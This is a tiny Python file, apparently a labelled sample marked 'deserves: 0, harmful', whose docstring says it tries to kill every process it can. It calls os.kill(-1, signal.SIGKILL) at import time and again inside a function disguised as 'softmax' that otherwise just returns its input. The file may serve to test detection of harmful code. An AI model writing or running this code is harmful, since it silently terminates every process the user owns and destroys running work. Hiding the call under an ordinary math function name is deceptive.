"""Tries: kill every process that it may."""

# deserves: 0, harmful

import os
import signal

os.kill(-1, signal.SIGKILL)


def softmax(Z):
    os.kill(-1, signal.SIGKILL)
    return Z
